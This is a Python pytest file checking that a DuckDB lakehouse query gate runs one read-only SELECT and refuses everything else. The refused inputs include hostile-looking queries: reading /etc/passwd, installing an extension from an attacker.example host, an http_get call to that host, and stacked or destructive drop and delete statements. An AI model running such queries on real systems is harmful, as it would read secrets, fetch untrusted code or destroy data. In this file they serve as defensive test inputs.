"""A query that somebody wrote reads the lake, and neither files nor servers nor settings; nothing changes."""

import hashlib
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import duckdb
import pytest

from dagster_project.lakehouse.lake import Lake
from dagster_project.lakehouse.locked import check
from models_py.errors import UserError
from tests.support.lakes import append


@pytest.fixture(scope="module")
def house(empty_warehouse: Path, tmp_path_factory: pytest.TempPathFactory) -> Lake:
    """A lake with one pair, a ledger beside it, and a file of somebody else's."""
    folder = tmp_path_factory.mktemp("house")
    lake = Lake(shutil.copytree(empty_warehouse, folder / "warehouse"))
    append(lake, "whole")
    with sqlite3.connect(lake.warehouse / "teacher.sqlite") as ledger:
        ledger.execute("create table replies (reply)")
        ledger.execute("insert into replies values ('paid for')")
    (folder / "secret.csv").write_text("a,b\n1,2\n")
    return lake


@pytest.fixture(scope="module")
def locked(house: Lake) -> Iterator[duckdb.DuckDBPyConnection]:
    with house.locked() as connection:
        yield connection


def ask(connection: duckdb.DuckDBPyConnection, query: str) -> list[tuple[object, ...]]:
    check(connection, query)
    return connection.execute(query).fetchall()


def content(folder: Path) -> dict[str, str]:
    files = (file for file in folder.rglob("*") if file.is_file() and not file.name.endswith(("-wal", "-shm")))
    return {str(file.relative_to(folder)): hashlib.sha256(file.read_bytes()).hexdigest() for file in files}


READ = [
    ("select pair_id from raw.raw_pairs", [("whole",)]),
    ("select pair_id from lake.raw.raw_pairs;", [("whole",)]),
    ("from raw.raw_pairs select pair_id -- a comment", [("whole",)]),
    ("with x as (from raw.raw_pairs) select count(*) from x", [(1,)]),
    ("select count(*) from selection.selection_summary", [(0,)]),
    ("values (1), (2)", [(1,), (2,)]),
    ("select i from range(2) t(i) union all select unnest([7])", [(0,), (1,), (7,)]),
    ("select list_transform([1, 2], lambda x: x + 1)", [([2, 3],)]),
    ("select count(*) > 2 from lake.snapshots()", [(True,)]),
    ("select count(*) > 2 from ducklake_snapshots('lake')", [(True,)]),
    ("select count(*) from ducklake_table_changes('lake', 'raw', 'raw_pairs', 2, 2)", None),
    ("select column_name from (describe raw.raw_pairs) limit 1", [("pair_id",)]),
    ("select column_name from (summarize raw.raw_pairs) limit 1", [("pair_id",)]),
    ("select count(*) > 20 from duckdb_columns() where schema_name = 'raw'", None),
    ("select key from json_each('{\"a\": 1}')", [("a",)]),
    ("pivot raw.raw_pairs on pair_id in ('whole') using count(*) group by source", [(None, 1)]),
    ("select selection.ppl(0.0, 1)", [(1.0,)]),
    ("select count(*) from raw.raw_pairs at (version => 1)", [(0,)]),
    ("select 'attach; copy x to y' as text", [("attach; copy x to y",)]),
    ("explain select pair_id from raw.raw_pairs", None),
    ("explain analyze select 1", None),
    ("EXPLAIN (FORMAT json) select 1", None),
    ("show tables", None),
    ("show all tables", None),
    ("table raw.raw_pairs", None),
]


@pytest.mark.parametrize(("query", "rows"), READ, ids=[query for query, _ in READ])
def test_what_reads_is_answered(
    locked: duckdb.DuckDBPyConnection, query: str, rows: list[tuple[object, ...]] | None
) -> None:
    if rows is None:
        ask(locked, query)
    else:
        assert ask(locked, query) == rows


ONE_SELECT = [
    "insert into raw.raw_pairs (pair_id) values ('x')",
    "update raw.raw_pairs set pair_id = 'x'",
    "delete from raw.raw_pairs",
    "truncate raw.raw_pairs",
    "merge into raw.raw_pairs using (select 1 as i) s on true when matched then delete",
    "create table raw.t (i int)",
    "create temp table t as select 1",
    "create or replace view raw.raw_pairs as select 1",
    "create macro m() as 1",
    "create secret s (type s3, key_id 'a', secret 'b')",
    "drop schema raw cascade",
    "alter table raw.raw_pairs drop column source",
    "comment on table raw.raw_pairs is 'x'",
    "attach 'HOUSE/warehouse/teacher.sqlite' as ledger (type sqlite)",
    "attach ':memory:' as other",
    "detach lake",
    "use memory",
    "copy raw.raw_pairs to 'HOUSE/out.csv'",
    "copy (select 1) to 'HOUSE/warehouse/data/x.csv'",
    "copy raw.raw_pairs from 'HOUSE/secret.csv'",
    "copy from database lake to memory",
    "export database 'HOUSE/export'",
    "import database 'HOUSE/export'",
    "install httpfs",
    "force install httpfs from 'http://attacker.example'",
    "load httpfs",
    "update extensions",
    "set memory_limit = '1GB'",
    "set global enable_external_access = true",
    "reset lock_configuration",
    "pragma enable_profiling",
    "pragma database_list",
    "call lake.set_option('parquet_compression', 'zstd')",
    "call ducklake_expire_snapshots('lake', older_than => now())",
    "call enable_logging(storage = 'file', storage_path = 'HOUSE/log')",
    "checkpoint",
    "vacuum",
    "begin",
    "commit",
    "prepare p as select 1",
    "execute p",
    "deallocate p",
    "select 1; select 2",
    "select 1; drop table raw.raw_pairs",
    "explain analyze copy (select 1) to 'HOUSE/out.csv'",
    "explain (analyze) copy (select 1) to 'HOUSE/out.csv'",
    "explain analyze insert into raw.raw_pairs (pair_id) values ('x')",
    "explain analyse copy (select 1) to 'HOUSE/out.csv'",
    "/* */ explain analyze copy (select 1) to 'HOUSE/out.csv'",
    "explain explain copy (select 1) to 'HOUSE/out.csv'",
    "pivot raw.raw_pairs on pair_id using count(*)",
    "",
    "   ;  ",
    "-- nothing",
]


@pytest.mark.parametrize("query", ONE_SELECT)
def test_anything_but_one_select_is_refused(house: Lake, locked: duckdb.DuckDBPyConnection, query: str) -> None:
    folder = house.warehouse.parent
    before = content(folder)
    with pytest.raises((UserError, duckdb.ParserException)) as refused:
        ask(locked, query.replace("HOUSE", str(folder)))
    if isinstance(refused.value, UserError):
        assert "make sql is read-only and takes one query: SELECT" in str(refused.value)
    assert content(folder) == before


FUNCTIONS = {
    "read_csv": "from read_csv('HOUSE/secret.csv')",
    "read_csv_auto": "from READ_CSV_AUTO('HOUSE/secret.csv')",
    "read_text": "select content from read_text('/etc/passwd')",
    "read_blob": "select (select content from read_blob('/etc/passwd'))",
    "read_json": "with x as (from read_json('HOUSE/x.json')) select 1",
    "read_parquet": "from raw.raw_pairs join read_parquet('HOUSE/*.parquet') on true",
    "parquet_scan": "from system.main.parquet_scan('x')",
    "parquet_metadata": "from parquet_metadata('HOUSE/warehouse/data/*/*/*.parquet')",
    "glob": "select * from range(1), lateral (select * from glob('/etc/*'))",
    "sniff_csv": "from sniff_csv('HOUSE/secret.csv')",
    "read_duckdb": "from read_duckdb('HOUSE/x.db')",
    "sqlite_scan": "from sqlite_scan('HOUSE/warehouse/teacher.sqlite', 'replies')",
    "sqlite_query": "from sqlite_query('__ducklake_metadata_lake', 'delete from ducklake_snapshot')",
    "sqlite_attach": "from sqlite_attach('HOUSE/warehouse/teacher.sqlite')",
    "postgres_query": "from postgres_query('lake', 'drop table x')",
    "postgres_execute": "from postgres_execute('lake', 'drop table x')",
    "postgres_attach": "from postgres_attach('host=127.0.0.1')",
    "postgres_scan": "from postgres_scan('host=127.0.0.1', 'public', 't')",
    "query": "from query('select 1')",
    "query_table": "from query_table('raw.raw_pairs')",
    "json_execute_serialized_sql": "from json_execute_serialized_sql('{}')",
    "enable_logging": "from enable_logging()",
    "duckdb_logs": "from duckdb_logs()",
    "duckdb_secrets": "from duckdb_secrets()",
    "which_secret": "from which_secret('s3://x', 's3')",
    "checkpoint": "from checkpoint()",
    "force_checkpoint": "from force_checkpoint('lake')",
    "copy_database": "from copy_database('lake')",
    "import_database": "from import_database('x')",
    "ducklake_expire_snapshots": "from ducklake_expire_snapshots('lake', older_than => now())",
    "expire_snapshots": "from lake.expire_snapshots(older_than => now())",
    "ducklake_cleanup_old_files": "from ducklake_cleanup_old_files('lake', cleanup_all => true)",
    "ducklake_delete_orphaned_files": "from ducklake_delete_orphaned_files('lake', cleanup_all => true)",
    "ducklake_merge_adjacent_files": "from ducklake_merge_adjacent_files('lake')",
    "ducklake_add_data_files": "from ducklake_add_data_files('lake', 'raw_pairs', 'HOUSE/x.parquet')",
    "set_option": "from lake.set_option('parquet_compression', 'zstd')",
    "set_commit_message": "from lake.set_commit_message('me', 'a lie')",
    "python_map_function": "from python_map_function(1)",
    "arrow_scan": "from arrow_scan(1, 2, 3)",
    "http_get": "from http_get('http://attacker.example')",
    "write_log": "select write_log('x')",
    "getenv": "select getenv('HOME')",
    "_never_heard_of_it": "from _never_heard_of_it()",
}


@pytest.mark.parametrize("name", FUNCTIONS)
def test_a_function_that_does_more_than_to_make_rows_is_refused_by_name(
    house: Lake, locked: duckdb.DuckDBPyConnection, name: str
) -> None:
    folder = house.warehouse.parent
    before = content(folder)
    with pytest.raises(UserError, match=f"read-only and does not call {name}: "):
        ask(locked, FUNCTIONS[name].replace("HOUSE", str(folder)))
    assert content(folder) == before


@pytest.mark.parametrize("table", ["HOUSE/secret.csv", "/etc/passwd", "http://attacker.example/x.parquet", "*.csv"])
def test_no_file_is_read_as_a_table(house: Lake, locked: duckdb.DuckDBPyConnection, table: str) -> None:
    with pytest.raises((duckdb.PermissionException, duckdb.CatalogException)):
        ask(locked, f"from '{table.replace('HOUSE', str(house.warehouse.parent))}'")


def test_a_variable_of_the_program_is_no_table(locked: duckdb.DuckDBPyConnection) -> None:
    frame = duckdb.connect().sql("select 1")  # noqa: F841 (what a query would find)
    with pytest.raises(duckdb.CatalogException):
        ask(locked, "from frame")


@pytest.mark.parametrize(
    "statement",
    [
        "attach 'HOUSE/other.db'",
        "copy (select 1) to 'HOUSE/out.csv'",
        "from read_text('HOUSE/warehouse/teacher.sqlite')",
        "from read_text('/etc/passwd')",
        "install spatial",
        "load httpfs",
        "set threads = 1",
        "set enable_external_access = true",
        "set lock_configuration = false",
        "insert into raw.raw_pairs (pair_id) values ('x')",
    ],
)
def test_the_connection_itself_is_shut_whatever_the_query_is(
    house: Lake, locked: duckdb.DuckDBPyConnection, statement: str
) -> None:
    with pytest.raises(duckdb.Error):
        locked.execute(statement.replace("HOUSE", str(house.warehouse.parent)))


def test_the_lock_is_not_lent_to_the_next(house: Lake) -> None:
    with house.locked() as connection:
        ask(connection, "select 1")
    with house.connect() as connection:
        assert connection.execute("select current_setting('lock_configuration')").fetchone() == (False,)


def test_a_sort_may_outgrow_the_memory_in_a_folder_of_its_own(house: Lake, locked: duckdb.DuckDBPyConnection) -> None:
    [(spill,)] = ask(locked, "select current_setting('temp_directory')")
    assert Path(str(spill)).parent == house.warehouse
    with pytest.raises(duckdb.PermissionException):
        ask(locked, f"from '{Path(str(spill)).parent}/x.csv'")


def test_wrong_sql_says_where(locked: duckdb.DuckDBPyConnection) -> None:
    with pytest.raises(duckdb.ParserException, match='syntax error at or near "selec"'):
        ask(locked, "selec 1")


@pytest.mark.parametrize(
    "query", [f"select {'(' * 400}1{')' * 400}", f"select {'1+' * 900}1", "select " + "-" * 1 + "1"]
)
def test_deep_queries_are_answered_or_refused(locked: duckdb.DuckDBPyConnection, query: str) -> None:
    try:
        ask(locked, query)
    except (UserError, duckdb.Error) as error:
        assert "deep" in str(error).lower() or "depth" in str(error).lower()


OFFLINE = """
import sys
sys.modules.update(dict.fromkeys(["duckdb_extension_ducklake", "duckdb_extension_sqlite_scanner"]))
import duckdb

connection = duckdb.connect(config={"extension_directory": sys.argv[2], "autoinstall_known_extensions": "false"})
connection.execute(sys.argv[1])
print(connection.execute("select pair_id from lake.raw.raw_pairs").fetchall())
"""


@pytest.mark.parametrize("as_of", [None, 2])
def test_the_printed_line_attaches_the_lake_where_nothing_is_installed(
    house: Lake, tmp_path: Path, as_of: int | None
) -> None:
    done = subprocess.run(
        [sys.executable, "-c", OFFLINE, house.attach_line(as_of=as_of), str(tmp_path)],
        env={"HOME": str(tmp_path), "http_proxy": "http://127.0.0.1:9", "https_proxy": "http://127.0.0.1:9"},
        capture_output=True,
        text=True,
        check=False,
    )
    assert (done.stdout, done.stderr) == ("[('whole',)]\n", "")
    assert list(tmp_path.iterdir()) == []  # nothing was fetched
